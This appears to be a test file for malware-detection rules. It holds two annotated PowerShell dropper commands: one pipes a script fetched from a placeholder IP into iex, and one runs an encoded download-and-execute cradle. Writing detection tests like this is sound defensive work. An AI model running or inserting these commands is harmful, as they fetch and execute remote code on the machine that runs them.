# ruleid: dropper-raw-ip-pipe-shell
iwr -UseBasicParsing http://203.0.113.50/a.ps1 | iex
# ruleid: dropper-encoded-pipe-shell
powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
